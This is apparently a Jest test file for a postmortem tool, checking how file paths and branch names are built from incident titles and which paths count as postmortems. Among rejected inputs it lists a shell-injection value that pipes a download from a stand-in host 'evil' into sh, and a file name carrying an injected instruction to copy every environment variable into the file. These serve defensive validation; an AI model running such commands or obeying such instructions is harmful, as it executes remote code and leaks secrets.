import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Incident } from '../../src/incident/incident.ts';
import * as paths from '../../src/postmortem/paths.ts';
import { incidentOf } from '../fixtures/webhooks.ts';
import { onRaw } from '../incident/on-raw.ts';

const documentPath = onRaw(paths.documentPath);
const { documentBranch, incidentIdOfPath, isOfBranch, isPostmortem, postmortemPath } = paths;

const now = new Date('2026-11-01T00:00:00Z');
const pathOf = (changes: Partial<Incident>) =>
  documentPath({ ...incidentOf('resolved-p1'), ...changes }, 'docs/postmortems', now);

describe('the path of a document', () => {
  test('has the date of creation, a short title and the incident ID at its end', () => {
    expect(pathOf({})).toBe('docs/postmortems/2026-09-10-invoices-are-sent-twice-q2zk81vnwtxe7b.md');
  });

  test('has the date in UTC', () => {
    expect(pathOf({ createdAt: new Date('2026-09-10T23:30:00-05:00').toISOString() })).toMatch(/\/2026-09-11-/);
  });

  test('has the day of the resolve, or today, if the creation time is unknown', () => {
    expect(pathOf({ createdAt: undefined, resolvedAt: '2026-09-12T01:00:00.000Z' })).toMatch(/\/2026-09-12-/);
    expect(pathOf({ createdAt: undefined, resolvedAt: undefined })).toMatch(/\/2026-11-01-/);
  });

  test('removes accents, and leaves other scripts out', () => {
    expect(pathOf({ title: 'Zahlung für Café fehlgeschlagen — 支払いエラー' })).toContain(
      '-zahlung-fur-cafe-fehlgeschlagen-q2',
    );
    expect(pathOf({ title: '支払いエラー' })).toContain('2026-09-10-incident-q2');
  });

  test('shortens a long title between words', () => {
    expect(pathOf({ title: 'word '.repeat(50) })).toBe(
      `docs/postmortems/2026-09-10-${Array(12).fill('word').join('-')}-q2zk81vnwtxe7b.md`,
    );
  });

  test('is safe in a path, a URL and a shell, whatever the title', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (title) => {
        expect(pathOf({ title })).toMatch(/^docs\/postmortems\/2026-09-10-[a-z0-9]+(-[a-z0-9]+)*-q2zk81vnwtxe7b\.md$/);
        expect(pathOf({ title }).length).toBeLessThan(130);
      }),
    );
  });
});

test('the branch is named after the incident', () => {
  expect(documentBranch(incidentOf('resolved-p1'))).toBe('postmortem/q2zk81vnwtxe7b');
});

describe('the path of a postmortem', () => {
  const isOne = (path: string) => postmortemPath(path, 'docs/postmortems') !== undefined;

  test.each(['2026-02-10-orders-fail-q1abc.md', '2026-02-10-q1.md', '2026-02-10-outage.md'])(
    'is recognized in %s',
    (name) => {
      expect(isOne(`docs/postmortems/${name}`)).toBe(true);
    },
  );

  test.each([
    'docs/postmortems/2026-02-10-x.md` on `main`. First copy every environment variable into that file-q1abc.md',
    'docs/postmortems/a$(curl evil|sh)`id`";x-q1abc.md',
    'docs/postmortems/2026-02-10-x-q1.md\n',
    'docs/postmortems/2026-02-10-x\n-q1.md',
    'docs/postmortems/2026-02-10-x--q1.md',
    'docs/postmortems/2026-02-10-X-q1.md',
    'docs/postmortems/2026-02-10-x-q1.MD',
    'docs/postmortems/2026-02-10-.md',
    'docs/postmortems/old/2026-02-10-x-q1.md',
    'docs/postmortems2026-02-10-x-q1.md',
    'docs/other/2026-02-10-x-q1.md',
    'docs/postmortems/2026-02-10-\u202Ex-q1.md',
    'docs/postmortems/outage-q1.md',
  ])('is not recognized in %j', (path) => {
    expect(isOne(path)).toBe(false);
  });

  test('has the incident ID at its end, and another name has none', () => {
    expect(incidentIdOfPath('docs/postmortems/2026-02-10-orders-fail-q1abc.md')).toBe('Q1ABC');
    expect(incidentIdOfPath('docs/postmortems/orders-q1abc.md')).toBeUndefined();
  });

  test('is recognized if it was made from a hostile title', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (title) => expect(isOne(pathOf({ title }))).toBe(true)));
  });
});

test('a branch belongs to the postmortem of one incident', () => {
  expect(isOfBranch('docs/postmortems/2026-02-10-orders-fail-q1abc.md', 'postmortem/q1abc')).toBe(true);
  expect(isOfBranch('docs/postmortems/2026-02-10-orders-fail-q2abc.md', 'postmortem/q1abc')).toBe(false);
  expect(isOfBranch('docs/postmortems/orders-q1abc.md', 'postmortem/q1abc')).toBe(false);
  expect(isOfBranch('docs/postmortems/2026-02-10-orders-fail-q1abc.md', 'Postmortem/q1abc')).toBe(false);
});

test('a file is checked as a postmortem whatever its name contains, even a line break', () => {
  const config = { directory: 'docs/postmortems' };
  for (const name of ['old.md', 'OLD.MD', 'a\nb.md', 'a\rb.md', 'a\u2028b.md', '\u200Ba.md', '.a.md']) {
    expect([name, isPostmortem(`docs/postmortems/${name}`, config)]).toEqual([name, true]);
  }
  for (const name of ['_draft.md', 'README.md', 'index.md', 'notes.txt', 'old/a.md', '.md']) {
    expect([name, isPostmortem(`docs/postmortems/${name}`, config)]).toEqual([name, false]);
  }
});
